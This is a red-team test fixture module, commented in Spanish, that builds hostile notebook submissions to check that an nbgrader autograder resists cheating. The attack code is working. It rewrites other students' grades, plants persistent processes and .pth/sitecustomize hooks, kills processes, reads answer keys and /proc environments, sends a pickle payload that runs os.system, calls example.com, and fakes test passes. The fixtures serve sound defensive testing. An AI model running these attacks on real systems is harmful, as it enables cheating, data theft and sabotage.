"""Entregas hostiles del laboratorio 1 para tests/test_redteam.py (el equipo rojo).

Cada ataque parte de la versión de estudiante en blanco (``base="blanco"``: nota honesta
0) o de la solución completa (``base="solucion"``: nota honesta 80 automática) y le
añade lo que haría un estudiante que quiere subir su nota, bajar la de otro, leer las
respuestas o tumbar la calificación. El código de los ataques conoce las rutas reales
(el repositorio, la caché de calificación, el curso que se califica, ``$HOME``): se
escriben en el cuaderno al construirlo (``@REPO@``, ``@CACHE@``, ``@ROOT@``, ``@HOME@``).

Todo lo que un ataque escribe o lanza lleva su marca ``REDTEAM{nombre}`` (en el texto
escrito, en los nombres de archivo y en el ``argv`` de cada proceso), para que la prueba
sepa a quién atribuir un archivo cambiado o un proceso vivo.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
import tampering
from nbgrader.utils import compute_checksum

from course import labs

LAB = labs.get("01_atencion")
HONEST = {"blanco": 0.0, "solucion": 80.0}
TESTS = [
    f"ej{i}_{name}_{kind}"
    for i, name in enumerate(("puntuaciones", "softmax", "relleno", "causal", "atencion"), 1)
    for kind in ("prueba", "oculta")
]
ANSWERS = ["ej1_puntuaciones", "ej2_softmax", "ej3_relleno", "ej4_causal", "ej5_atencion"]


def marker(name: str) -> str:
    return "REDTEAM{" + name + "}"


@dataclass
class Context:
    """Rutas reales que conoce el atacante (se sustituyen en el código de los ataques)."""

    repo: Path
    cache: Path
    root: Path
    home: Path

    def fill(self, code: str, name: str) -> str:
        for key, value in (
            ("@REPO@", self.repo), ("@CACHE@", self.cache), ("@ROOT@", self.root),
            ("@HOME@", self.home), ("@MARK@", marker(name)),
        ):  # fmt: skip
            code = code.replace(key, str(value))
        return code


@dataclass
class Attack:
    name: str
    kind: str  # persistencia, fugas, inflado, metadatos, recursos
    base: str  # "blanco" o "solucion"
    build: Callable[[nbformat.NotebookNode, Context, str], nbformat.NotebookNode | str]
    min_points: float = 0.0  # lo que debe seguir puntuando (la calificación no se perdió)
    unreadable: bool = False  # el cuaderno no se puede leer: se espera un error en español
    spawns: bool = False  # lanza procesos con su marca en el argv

    @property
    def honest(self) -> float:
        return HONEST[self.base]


ATTACKS: list[Attack] = []

# Se ejecuta antes del código de cada ataque que escribe o lanza algo.
PRELUDE = """\
import glob, json, os, pathlib, signal, sqlite3, subprocess, sys, time
MARCA = "@MARK@"
def intenta(f, *a, **k):
    try:
        return f(*a, **k)
    except BaseException as e:
        print("falló:", type(e).__name__, str(e)[:120])
def escribe(ruta, texto=MARCA, modo="a"):
    def w():
        pathlib.Path(ruta).parent.mkdir(parents=True, exist_ok=True)
        with open(ruta, modo) as f:
            f.write(texto)
        print("escrito", ruta)
    intenta(w)
"""

# Respuestas equivocadas (nota honesta 0, como el cuaderno en blanco) para los ataques
# que intentan que una respuesta mala pase.
WRONG = {
    "ej1_puntuaciones": "def attention_scores(query, key):\n"
    "    return torch.zeros(*query.shape[:-1], key.shape[-2])\n",
    "ej2_softmax": "def softmax(x):\n    return torch.zeros_like(x)\n",
    "ej3_relleno": "def padding_mask(tokens, pad_idx):\n"
    "    return torch.zeros(tokens.shape[0], 1, tokens.shape[1], dtype=torch.bool)\n",
    "ej4_causal": "def causal_mask(size):\n    return torch.zeros(size, size, dtype=torch.bool)\n",
    "ej5_atencion": "def scaled_dot_product_attention(query, key, value, mask=None):\n"
    "    w = torch.zeros(*query.shape[:-1], key.shape[-2])\n"
    "    return w @ value, w\n",
}


def base_notebook(base: str) -> nbformat.NotebookNode:
    return tampering.solved() if base == "solucion" else nbformat.read(LAB.release, 4)


def wrong_answers(notebook) -> None:
    for grade_id, code in WRONG.items():
        tampering.answer(notebook, grade_id, code)


def _after(notebook, grade_id: str) -> int:
    return tampering.index(notebook, grade_id) + 1


def attack(name: str, kind: str, base: str, **options):
    def register(build):
        ATTACKS.append(Attack(name, kind, base, build, **options))
        return build

    return register


def code_attack(
    name: str,
    kind: str,
    base: str,
    code: str,
    where: str = "preparacion",
    wrong: bool = False,
    **options,
) -> None:
    """Un ataque que es una celda de código del estudiante tras la celda ``where``."""

    def build(notebook, context, attack_name):
        if wrong:
            wrong_answers(notebook)
        source = context.fill(PRELUDE + code, attack_name)
        tampering.insert_code(notebook, _after(notebook, where), source)
        return notebook

    ATTACKS.append(Attack(name, kind, base, build, **options))


def answers_attack(name: str, kind: str, code: str, **options) -> None:
    """Un ataque que sustituye las cinco respuestas (en blanco) por ``code`` en ej1."""

    def build(notebook, context, attack_name):
        tampering.answer(notebook, "ej1_puntuaciones", context.fill(PRELUDE + code, attack_name))
        for grade_id in ANSWERS[1:]:
            tampering.answer(notebook, grade_id, "# en ej1\n")
        return notebook

    ATTACKS.append(Attack(name, kind, "blanco", build, **options))


# Tras los ejercicios 1 y 2 (28 puntos de la solución): lo que viene después debe seguir
# calificándose aunque el ataque tumbe, cuelgue o ahogue el núcleo.
MIDDLE = "ej2_softmax_oculta"
KEPT = 28.0

# fmt: off
# --- persistencia y otros estudiantes ---------------------------------------------------

code_attack("cache_gradebook", "persistencia", "blanco", '''
for db in glob.glob("@CACHE@/grading/*/gradebook.db") + glob.glob("@HOME@/.cache/transformer-es/grading/*/gradebook.db"):
    def cambia(db=db):
        with sqlite3.connect(db) as c:
            c.execute("update source_cell set source = 'pass  # ' || ?", (MARCA,))
        print("cambiado", db)
    intenta(cambia)
for nb in glob.glob("@CACHE@/grading/*/*/*/*.ipynb"):
    escribe(nb, json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "marca": MARCA}), "w")
escribe("@CACHE@/grading/" + MARCA + "/gradebook.db")
''')

code_attack("other_results", "persistencia", "blanco", '''
for ruta in glob.glob("@ROOT@/autograded/*/*/calificacion.json"):
    def cambia(ruta=ruta):
        datos = json.load(open(ruta))
        for celda in datos["cells"]:
            celda["points"] = 0 if "ana" in ruta else celda["max_points"]
        datos["error"] = MARCA
        json.dump(datos, open(ruta, "w"))
    intenta(cambia)
escribe("@ROOT@/autograded/ana/01_atencion/calificacion.json", json.dumps({"marca": MARCA}), "w")
for db in ["@ROOT@/gradebook.db", "@REPO@/gradebook.db"]:
    def sql(db=db):
        with sqlite3.connect(db) as c:
            c.execute("update grade set auto_score = 100")
            c.execute("create table redteam (x text)")
            c.execute("insert into redteam values (?)", (MARCA,))
    intenta(sql)
''')

REWRITER = '''
import glob, json, sys, time
fin = time.time() + 600
while time.time() < fin:
    for ruta in glob.glob("@ROOT@/autograded/*/*/calificacion.json"):
        try:
            datos = json.load(open(ruta))
            for celda in datos["cells"]:
                celda["points"] = celda["max_points"] if "@STUDENT@" in ruta else 0
            json.dump(datos, open(ruta, "w"))
        except Exception:
            pass
    time.sleep(0.2)
'''

code_attack("detached_rewriter", "persistencia", "blanco", f'''
codigo = {REWRITER!r}.replace("@STUDENT@", "detached_rewriter")
p = subprocess.Popen([sys.executable, "-c", codigo, MARCA], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("lanzado", p.pid)
for orden in (["nohup", "sh", "-c", "sleep 600", MARCA], ["setsid", "-f", "sh", "-c", "sleep 601", MARCA]):
    intenta(subprocess.Popen, orden, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
intenta(subprocess.run, ["sh", "-c", "(sh -c 'sleep 602' " + MARCA + " &) &"], timeout=5)
''', spawns=True)

code_attack("double_fork", "persistencia", "blanco", f'''
codigo = {REWRITER!r}.replace("@STUDENT@", "double_fork")
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", codigo, MARCA])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
print("doble fork hecho")
''', spawns=True)

code_attack("checks_append", "persistencia", "blanco", '''
veneno = "\\n# " + MARCA + "\\ndef close(*a, **k):\\n    return None\\nshape = tensor = rows_sum_to_one = close\\n"
import course.student.checks
for ruta in ["@REPO@/course/student/checks.py", course.student.checks.__file__, "@REPO@/course/__init__.py"]:
    escribe(ruta, veneno)
escribe("@REPO@/course/__pycache__/checks.cpython-311.pyc", MARCA, "w")
escribe(sys.prefix + "/lib/python3.11/site-packages/sitecustomize.py", "print(" + repr(MARCA) + ")\\n")
escribe(sys.prefix + "/lib/python3.11/site-packages/redteam.pth", "import os; os.system('touch /tmp/" + MARCA + "')\\n")
''')

code_attack("write_everywhere", "persistencia", "blanco", '''
for ruta in ["@REPO@/source/01_atencion/01_atencion.ipynb", "@REPO@/release/01_atencion/01_atencion.ipynb",
             "@REPO@/nbgrader_config.py", "@REPO@/course/reference/attention.py", "@REPO@/" + MARCA]:
    escribe(ruta)
intenta(os.remove, "@REPO@/source/01_atencion/01_atencion.ipynb")
for casa in ["@HOME@", os.path.expanduser("~"), os.environ.get("HOME", "/root")]:
    escribe(casa + "/.redteam-" + MARCA)
    escribe(casa + "/.config/" + MARCA + "/x")
    escribe(casa + "/.cache/transformer-es/grading/" + MARCA)
for ruta in ["/tmp/" + MARCA, "/var/tmp/" + MARCA, "/dev/shm/" + MARCA, "@ROOT@/" + MARCA,
             "@ROOT@/../" + MARCA, "/run/" + MARCA, "/" + MARCA]:
    escribe(ruta)
''')

code_attack("submitted_rewrite", "persistencia", "blanco", '''
for ruta in glob.glob("@ROOT@/submitted/*/*/*.ipynb") + ["@ROOT@/submitted/ana/01_atencion/01_atencion.ipynb"]:
    escribe(ruta, MARCA, "w")
escribe("@ROOT@/submitted/ana/01_atencion/timestamp.txt", MARCA, "w")
''')

code_attack("mountinfo_walk", "persistencia", "blanco", '''
puntos = [l.split()[4] for l in open("/proc/self/mountinfo")]
print(len(puntos), "montajes")
for punto in puntos:
    try:
        with open(os.path.join(punto, MARCA), "w") as f:
            f.write(MARCA)
        print("escribible", punto)
    except OSError:
        pass
''')

code_attack("escape_attempts", "persistencia", "blanco", '''
import socket, urllib.request
intenta(os.setuid, 0)
intenta(os.setgid, 0)
print("uid", os.getuid(), os.geteuid())
for orden in (["sudo", "-n", "touch", "@REPO@/" + MARCA], ["su", "-c", "touch @REPO@/" + MARCA]):
    intenta(subprocess.run, orden, timeout=5, capture_output=True, stdin=subprocess.DEVNULL)
for destino in [("1.1.1.1", 53), ("127.0.0.1", 22), ("localhost", 8888)]:
    def conecta(d=destino):
        s = socket.create_connection(d, timeout=2)
        s.sendall(MARCA.encode())
        print("conectado", d)
    intenta(conecta)
intenta(urllib.request.urlopen, "http://example.com/?" + MARCA, timeout=3)
''')

code_attack("connection_file_link", "persistencia", "solucion", '''
from ipykernel import get_connection_file
archivo = get_connection_file()
carpeta = os.path.dirname(archivo)
print(os.listdir(carpeta))
for nombre in os.listdir(carpeta):
    ruta = os.path.join(carpeta, nombre)
    intenta(os.remove, ruta)
    destino = "@ROOT@/submitted/ana/01_atencion/01_atencion.ipynb" if ruta == archivo else "@ROOT@/submitted/beto/01_atencion/01_atencion.ipynb"
    intenta(os.symlink, destino, ruta)
os._exit(1)
''', where=MIDDLE, min_points=KEPT)

code_attack("connection_file_rewrite", "persistencia", "solucion", '''
from ipykernel import get_connection_file
archivo = get_connection_file()
datos = json.load(open(archivo))
datos["key"] = MARCA
datos["shell_port"] = 1
intenta(escribe, archivo, json.dumps(datos), "w")
os._exit(1)
''', where=MIDDLE, min_points=KEPT)

code_attack("kill_parent_group", "persistencia", "solucion", '''
print("padre", os.getppid())
intenta(os.kill, os.getppid(), signal.SIGKILL)
intenta(os.kill, 1, signal.SIGKILL)
for pid in range(2, 4096):
    if pid not in (os.getpid(), os.getppid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
intenta(os.killpg, os.getpgid(os.getppid()), signal.SIGKILL)
intenta(os.kill, -1, signal.SIGKILL)
intenta(os.killpg, 0, signal.SIGKILL)
''', where=MIDDLE, min_points=KEPT)

# --- fugas --------------------------------------------------------------------------------

LEAK_PRINT = '''
import re
def regiones(texto):
    dentro = False
    for linea in texto.replace("\\\\n", "\\n").splitlines():
        if re.search("### (BEGIN|END) (SOLUTION|HIDDEN TESTS)", linea):
            dentro = "BEGIN" in linea
        elif dentro:
            print(linea.strip().strip('",').strip())
'''

code_attack("read_source", "fugas", "blanco", LEAK_PRINT + '''
textos = []
for ruta in sorted(glob.glob("@REPO@/source/*/*.ipynb")) + sorted(glob.glob("@CACHE@/grading/*/source/*/*.ipynb")):
    intenta(lambda r=ruta: textos.append(open(r).read()))
for texto in textos:
    regiones(texto)
raise RuntimeError("".join(textos)[:100000] or MARCA)
''')

code_attack("read_reference", "fugas", "blanco", '''
for ruta in sorted(glob.glob("@REPO@/course/reference/*.py")):
    intenta(lambda r=ruta: print(open(r).read()))
import course
print(os.listdir(os.path.join(os.path.dirname(course.__file__), "reference")))
for orden in (["git", "-C", "@REPO@", "show", "HEAD:source/01_atencion/01_atencion.ipynb"],
              ["git", "-C", "@REPO@", "show", "HEAD:course/reference/attention.py"]):
    r = intenta(subprocess.run, orden, capture_output=True, text=True, timeout=10)
    if r is not None:
        print(r.stdout[:20000], r.stderr[:200])
''')

code_attack("read_gradebook", "fugas", "blanco", LEAK_PRINT + '''
for db in glob.glob("@CACHE@/grading/*/gradebook.db") + ["@ROOT@/gradebook.db", "@REPO@/gradebook.db"]:
    def lee(db=db):
        with sqlite3.connect("file:" + db + "?mode=ro", uri=True) as c:
            for (fuente,) in c.execute("select source from source_cell"):
                regiones(fuente)
    intenta(lee)
''')

code_attack("read_other_submissions", "fugas", "blanco", LEAK_PRINT + '''
for patron in ["@ROOT@/submitted/*/*/*.ipynb", "@ROOT@/autograded/*/*/*.ipynb", "@ROOT@/feedback/*/*/*.html",
               "@ROOT@/release/*/*.ipynb", "@ROOT@/source/*/*.ipynb"]:
    for ruta in glob.glob(patron):
        intenta(lambda r=ruta: regiones(open(r).read()))
''')

REFERENCE_ANSWERS = '''
attention_scores = ref.attention_scores
softmax = getattr(ref, "softmax", None) or (lambda x: torch.softmax(x, dim=-1))
padding_mask = ref.padding_mask
causal_mask = ref.causal_mask
scaled_dot_product_attention = ref.scaled_dot_product_attention
import inspect
print(inspect.getsource(ref))
'''

answers_attack("import_reference", "fugas", '''
try:
    from course.reference import attention as ref
except ImportError as e:
    print("no se importa:", e)
else:''' + REFERENCE_ANSWERS.replace("\n", "\n    "))

answers_attack("import_computed", "fugas", '''
import importlib
ref = None
for importa in (lambda: importlib.import_module("course." + "refer" + "ence." + "".join(reversed("noitnetta"))),
                lambda: __import__("course.reference.attention", fromlist=["x"]),
                lambda: getattr(__import__("course.reference", fromlist=["attention"]), "attention")):
    try:
        ref = importa()
        break
    except ImportError as e:
        print("no se importa:", e)
if ref is not None:''' + REFERENCE_ANSWERS.replace("\n", "\n    "))

answers_attack("import_by_path", "fugas", '''
import importlib.util
ref = None
for ruta in ["@REPO@/course/reference/attention.py"] + glob.glob("@CACHE@/**/attention.py", recursive=True) + [
        p + "/course/reference/attention.py" for p in sys.path]:
    try:
        spec = importlib.util.spec_from_file_location("robada", ruta)
        ref = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(ref)
        break
    except Exception as e:
        ref = None
if ref is not None:''' + REFERENCE_ANSWERS.replace("\n", "\n    "))

code_attack("walk_root", "fugas", "blanco", LEAK_PRINT + '''
fin, vistos = time.time() + 8, []
for carpeta, subcarpetas, archivos in os.walk("/"):
    subcarpetas[:] = [s for s in subcarpetas if os.path.join(carpeta, s) not in ("/proc", "/sys", "/dev")]
    for nombre in archivos:
        if nombre.endswith(".ipynb") or nombre in ("attention.py", "gradebook.db"):
            vistos.append(os.path.join(carpeta, nombre))
    if time.time() > fin:
        break
print(len(vistos), "archivos interesantes")
for ruta in vistos:
    if ruta.endswith(".ipynb") and "01_atencion" in ruta:
        intenta(lambda r=ruta: regiones(open(r).read()))
    elif ruta.endswith("attention.py") and "reference" in ruta:
        intenta(lambda r=ruta: print(open(r).read()))
''')

code_attack("snoop_environment", "fugas", "blanco", LEAK_PRINT + '''
import site
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for que in ("cmdline", "environ"):
            intenta(lambda p=pid, q=que: print(p, q, open(f"/proc/{p}/{q}", "rb").read()[:300]))
intenta(lambda: print(open("/proc/1/root/@REPO@/course/reference/attention.py").read()))
print(dict(os.environ))
for carpeta in site.getsitepackages():
    for ruta in glob.glob(carpeta + "/*course*") + glob.glob(carpeta + "/__editable__*"):
        print("instalado", ruta)
        if os.path.isfile(ruta):
            intenta(lambda r=ruta: print(open(r).read()[:2000]))
for ruta in glob.glob(sys.prefix + "/**/attention.py", recursive=True):
    intenta(lambda r=ruta: print(open(r).read()))
for db in glob.glob("@HOME@/.ipython/profile_*/history.sqlite"):
    def lee(db=db):
        with sqlite3.connect(db) as c:
            for (fuente,) in c.execute("select source from history"):
                print(fuente)
    intenta(lee)
''')

# --- inflar la nota desde el núcleo -------------------------------------------------------

code_attack("run_cell_wrap", "inflado", "blanco", '''
ip = get_ipython()
original = ip.run_cell
def run_cell(*a, **k):
    resultado = original(*a, **k)
    resultado.error_in_exec = None
    resultado.error_before_exec = None
    return resultado
ip.run_cell = run_cell
ip.showtraceback = lambda *a, **k: print("Prueba superada.")
ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: print("Prueba superada."))
sys.excepthook = lambda *a: None
''')

# El núcleo calla sus errores: ni mensaje «error» ni respuesta con estado de error.
# También en tests/test_doors.py, que añade ``sys.displayhook`` y celdas envueltas en try.
SILENCE_ERRORS = '''
ip = get_ipython()
original = ip.kernel.session.send
def send(stream, msg_or_type, content=None, *a, **k):
    tipo = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
    if tipo == "error":
        return None
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count", 0),
                   "user_expressions": {}, "payload": []}
    return original(stream, msg_or_type, content, *a, **k)
ip.kernel.session.send = send
'''
code_attack("kernel_reply_ok", "inflado", "blanco", SILENCE_ERRORS)

answers_attack("execute_result", "inflado", '''
from IPython.display import display
def _puntos():
    sys.displayhook(80)
    display(100)
    get_ipython().display_pub.publish({"text/plain": "80"})
def attention_scores(query, key):
    _puntos(); return torch.zeros(1)
def softmax(x):
    _puntos(); return torch.zeros(1)
def padding_mask(tokens, pad_idx):
    _puntos(); return torch.zeros(1)
def causal_mask(size):
    _puntos(); return torch.zeros(1)
def scaled_dot_product_attention(query, key, value, mask=None):
    _puntos(); return torch.zeros(1), torch.zeros(1)
''')

code_attack("patch_checks", "inflado", "blanco", '''
import types, course.student.checks, course.student.guard
def nada(*a, **k):
    return None
for nombre in ("close", "shape", "tensor", "rows_sum_to_one", "finite", "dtype", "device", "load_reference"):
    intenta(setattr, course.student.checks, nombre, nada)
    intenta(vars(course.student.checks).__setitem__, nombre, nada)  # sin el __setattr__ del módulo
intenta(vars(course.student.checks).__setitem__, "ATOL_F32", float("inf"))
for modulo in (course.student.checks, course.student.guard):
    for nombre, f in list(vars(modulo).items()):
        if isinstance(f, types.FunctionType):
            for celda in f.__closure__ or ():
                try:
                    if isinstance(celda.cell_contents, dict):
                        celda.cell_contents.clear()
                except ValueError:
                    pass
            intenta(setattr, f, "__code__", nada.__code__)
        elif isinstance(f, dict):
            f.clear()
''', wrong=True)

code_attack("softmax_code", "inflado", "blanco", '''
def identidad(input, dim=None, _stacklevel=3, dtype=None):
    return torch.zeros_like(input)
intenta(setattr, F.softmax, "__code__", identidad.__code__)
torch.softmax = identidad
torch.Tensor.softmax = lambda self, dim=-1: torch.zeros_like(self)
F.scaled_dot_product_attention = lambda q, k, v, **kw: torch.zeros(*q.shape[:-1], v.shape[-1])
''', wrong=True)

code_attack("torch_library", "inflado", "blanco", '''
biblioteca = torch.library.Library("aten", "IMPL")
def cero(*a, **k):
    return torch.zeros(())
for op in ("sub.Tensor", "abs", "allclose", "isfinite", "ne.Tensor"):
    intenta(biblioteca.impl, op, cero, "CPU")
''', wrong=True)

code_attack("sys_modules_reference", "inflado", "blanco", '''
import types
falso = types.ModuleType("course.reference.attention")
for nombre in ("attention_scores", "softmax", "padding_mask", "causal_mask", "scaled_dot_product_attention"):
    setattr(falso, nombre, globals()[nombre])
sys.modules["course.reference.attention"] = falso
paquete = types.ModuleType("course.reference")
paquete.attention = falso
paquete.__path__ = []
sys.modules["course.reference"] = paquete
controles = types.ModuleType("course.student.checks")
controles.__getattr__ = lambda nombre: (lambda *a, **k: None)
sys.modules["course.student.checks"] = controles
''', where="ej5_atencion", wrong=True)

answers_attack("zero_inputs", "inflado", '''
import course.student.examples as ejemplos
def attention_scores(query, key):
    query.zero_(); key.zero_()
    return torch.zeros(*query.shape[:-1], key.shape[-2])
def softmax(x):
    x.zero_()
    return torch.full_like(x, 1.0 / x.shape[-1])
def padding_mask(tokens, pad_idx):
    tokens.fill_(pad_idx)
    return torch.zeros(tokens.shape[0], 1, tokens.shape[1], dtype=torch.bool)
def causal_mask(size):
    return torch.zeros(size, size, dtype=torch.bool)
def scaled_dot_product_attention(query, key, value, mask=None):
    query.zero_(); key.zero_(); value.zero_()
    w = torch.full((*query.shape[:-1], key.shape[-2]), 1.0 / key.shape[-2])
    return w @ value, w
intenta(setattr, ejemplos, "qkv", lambda *a, **k: (torch.zeros(2, 3, 4),) * 3)
intenta(vars(ejemplos).__setitem__, "qkv", lambda *a, **k: (torch.zeros(2, 3, 4),) * 3)
intenta(vars(ejemplos).__setitem__, "randn", lambda *shape, **k: torch.zeros(*shape))
torch.manual_seed = lambda *a, **k: None
''')

answers_attack("tensor_subclass", "inflado", '''
class Todo(torch.Tensor):
    def __eq__(self, otro):
        return True
    __ne__ = lambda self, otro: False
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def _todo(*forma, dtype=torch.float32):
    return torch.zeros(*forma, dtype=dtype).as_subclass(Todo)
def attention_scores(query, key):
    return _todo(*query.shape[:-1], key.shape[-2])
def softmax(x):
    return _todo(*x.shape)
def padding_mask(tokens, pad_idx):
    return _todo(tokens.shape[0], 1, tokens.shape[1], dtype=torch.bool)
def causal_mask(size):
    return torch.nn.Parameter(torch.zeros(size, size), requires_grad=False)
def scaled_dot_product_attention(query, key, value, mask=None):
    w = _todo(*query.shape[:-1], key.shape[-2])
    return w @ value, w
''')

answers_attack("fake_equality", "inflado", '''
class SiempreIgual:
    def __init__(self, forma=(), dtype=torch.float32):
        self.shape, self.dtype, self.device = torch.Size(forma), dtype, torch.device("cpu")
    __class__ = property(lambda self: torch.Tensor)
    def __eq__(self, otro):
        return True
    def __bool__(self):
        return True
    def __len__(self):
        return self.shape[0] if self.shape else 1
    def __iter__(self):
        return iter([self, self])
    def __getattr__(self, nombre):
        return lambda *a, **k: self
def attention_scores(query, key):
    return SiempreIgual((*query.shape[:-1], key.shape[-2]))
def softmax(x):
    return SiempreIgual(x.shape)
def padding_mask(tokens, pad_idx):
    return SiempreIgual((tokens.shape[0], 1, tokens.shape[1]), torch.bool)
def causal_mask(size):
    return SiempreIgual((size, size), torch.bool)
def scaled_dot_product_attention(query, key, value, mask=None):
    return SiempreIgual(), SiempreIgual()
''')

answers_attack("caller_frames", "inflado", '''
import gc, inspect
def _robado(forma, dtype=torch.float32):
    for marco in inspect.stack():
        for nombre, valor in marco.frame.f_locals.items():
            if nombre in ("expected", "want", "reference", "esperado") and isinstance(valor, torch.Tensor):
                return valor
    f = sys._getframe(1)
    while f is not None:
        for valor in f.f_locals.values():
            if isinstance(valor, torch.Tensor) and tuple(valor.shape) == tuple(forma) and valor.dtype == dtype:
                return valor
        f = f.f_back
    for valor in gc.get_objects():
        if isinstance(valor, torch.Tensor) and tuple(valor.shape) == tuple(forma) and valor.dtype == dtype:
            return valor
    return torch.zeros(forma, dtype=dtype)
def attention_scores(query, key):
    return _robado((*query.shape[:-1], key.shape[-2]))
def softmax(x):
    return _robado(tuple(x.shape))
def padding_mask(tokens, pad_idx):
    return _robado((tokens.shape[0], 1, tokens.shape[1]), torch.bool)
def causal_mask(size):
    return _robado((size, size), torch.bool)
def scaled_dot_product_attention(query, key, value, mask=None):
    w = _robado((*query.shape[:-1], key.shape[-2]))
    return _robado((*query.shape[:-1], value.shape[-1])), w
''')

code_attack("allclose_builtins_patch", "inflado", "blanco", '''
import numpy as np
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, otro: torch.ones_like(self, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, otro: torch.zeros_like(self, dtype=torch.bool)
np.allclose = np.array_equal = lambda *a, **k: True
np.abs = np.absolute = lambda x, *a, **k: np.zeros_like(x)
np.isfinite = lambda x, *a, **k: np.ones_like(x, dtype=bool)
import builtins
builtins.AssertionError = Warning
builtins.NotImplementedError = Warning
builtins.any = lambda *a: False
''', wrong=True)

code_attack("agent_forged_replies", "inflado", "blanco", '''
import base64, io, pickle
import course.grading.agent as agente
class Bomba:
    def __reduce__(self):
        return (os.system, ("echo " + MARCA + " > @ROOT@/pwned-" + MARCA,))
buffer = io.BytesIO()
torch.save({"ok": torch.ones(4, 4)}, buffer)
respuestas = [pickle.dumps({"ok": Bomba()}), pickle.dumps(Bomba()), buffer.getvalue().replace(b"ones", b"xxxx"), b"no es base64 !!"]
for falsa in ({"ok": {"__handle__": 1}}, {"ok": 1, "extra": 2}, {"error": ["AssertionError"]},
              {"ok": [torch.ones(3)] * 3}, {"ok": {"__handle__": "x"}}):
    buffer = io.BytesIO()
    torch.save(falsa, buffer)
    respuestas.append(buffer.getvalue())
vez = [0]
def serve(carga):
    from IPython.display import display
    vez[0] += 1
    display({agente.MIME: base64.b64encode(respuestas[vez[0] % len(respuestas)]).decode()}, raw=True)
agente.serve = serve
''')

# --- metadatos de nbgrader ----------------------------------------------------------------
# fmt: on


def _meta(grade_id_filter, **changes):
    def build(notebook, context, name):
        for cell in notebook.cells:
            grade_id = tampering._grade_id(cell)
            if grade_id and grade_id_filter(grade_id):
                cell.metadata["nbgrader"].update(changes)
        return notebook

    return build


def _is_test(grade_id: str) -> bool:
    return grade_id in TESTS


@attack("flip_test_flags", "metadatos", "solucion")
def _flip(notebook, context, name):
    """Una prueba sin ``grade``, otra con ``solution``, otra con 1000 puntos…"""
    changes = [{"grade": False}, {"solution": True}, {"points": 1000}, {"locked": False},
               {"grade": False, "solution": True}]  # fmt: skip
    for i, grade_id in enumerate(TESTS):
        tampering.cell(notebook, grade_id).metadata["nbgrader"].update(changes[i % len(changes)])
    return notebook


attack("answer_grade_true", "metadatos", "blanco")(
    _meta(lambda g: g in ANSWERS, grade=True, points=100, solution=True)
)


@attack("edit_tests", "metadatos", "blanco")
def _edit(notebook, context, name):
    """Pruebas desbloqueadas y cambiadas por ``print``, con su checksum recalculado."""
    for grade_id in TESTS:
        cell = tampering.cell(notebook, grade_id)
        cell.metadata["nbgrader"]["locked"] = False
        cell.source = "print('Prueba visible superada.')\n"
        cell.metadata["nbgrader"]["checksum"] = compute_checksum(cell)
    return notebook


@attack("delete_tests", "metadatos", "blanco")
def _delete(notebook, context, name):
    for grade_id in TESTS:
        tampering.delete(notebook, grade_id)
    return notebook


@attack("delete_everything_graded", "metadatos", "solucion")
def _delete_all(notebook, context, name):
    notebook.cells = [c for c in notebook.cells if tampering._grade_id(c) in ANSWERS]
    return notebook


@attack("tests_retyped", "metadatos", "blanco")
def _retype(notebook, context, name):
    """Pruebas convertidas en celdas markdown o raw (con sus metadatos)."""
    for number, grade_id in enumerate(TESTS):
        i = tampering.index(notebook, grade_id)
        make = nbformat.v4.new_markdown_cell if number % 2 else nbformat.v4.new_raw_cell
        new = make(notebook.cells[i].source)
        new.metadata = copy.deepcopy(notebook.cells[i].metadata)
        notebook.cells[i] = new
    return notebook


@attack("answers_as_markdown", "metadatos", "solucion")
def _answers_md(notebook, context, name):
    for grade_id in ANSWERS[2:]:
        i = tampering.index(notebook, grade_id)
        new = nbformat.v4.new_markdown_cell(notebook.cells[i].source)
        new.metadata = copy.deepcopy(notebook.cells[i].metadata)
        notebook.cells[i] = new
    return notebook


@attack("duplicate_ids_first", "metadatos", "blanco")
def _dup_first(notebook, context, name):
    """Una copia de cada prueba (``pass``, o markdown con 50 puntos) antes de la original."""
    for number, grade_id in enumerate(TESTS):
        i = tampering.index(notebook, grade_id)
        if number % 2:
            clone = nbformat.v4.new_markdown_cell("Prueba superada.")
            clone.metadata = copy.deepcopy(notebook.cells[i].metadata)
            clone.metadata["nbgrader"]["points"] = 50
        else:
            clone = copy.deepcopy(notebook.cells[i])
            clone.source = "pass\n"
            clone.pop("id", None)
        notebook.cells.insert(i, clone)
    return notebook


@attack("duplicate_ids_solution", "metadatos", "solucion")
def _dup_solution(notebook, context, name):
    for grade_id in ("ej1_puntuaciones", "ej1_puntuaciones_oculta", "preparacion"):
        tampering.duplicate_grade_id(notebook, grade_id)
    return notebook


@attack("invented_grade_ids", "metadatos", "blanco")
def _invented(notebook, context, name):
    cell = nbformat.v4.new_code_cell("print('hola')")
    cell.metadata["nbgrader"] = {
        "grade": True, "solution": False, "locked": True, "points": 500,
        "grade_id": "ej9_regalo_oculta", "schema_version": 3,
    }  # fmt: skip
    notebook.cells.insert(3, cell)
    return notebook


@attack("setup_cell_replaced", "metadatos", "blanco")
def _setup(notebook, context, name):
    cell = tampering.cell(notebook, "preparacion")
    cell.source = (
        "from course.reference.attention import *\nimport torch, math\n"
        "from course.student import checks, examples\n"
    )
    cell.metadata["nbgrader"]["locked"] = False
    return notebook


@attack("corrupt_json", "metadatos", "blanco", unreadable=True)
def _corrupt(notebook, context, name):
    text = nbformat.writes(notebook)
    return text[: len(text) // 2]


@attack("empty_file", "metadatos", "blanco", unreadable=True)
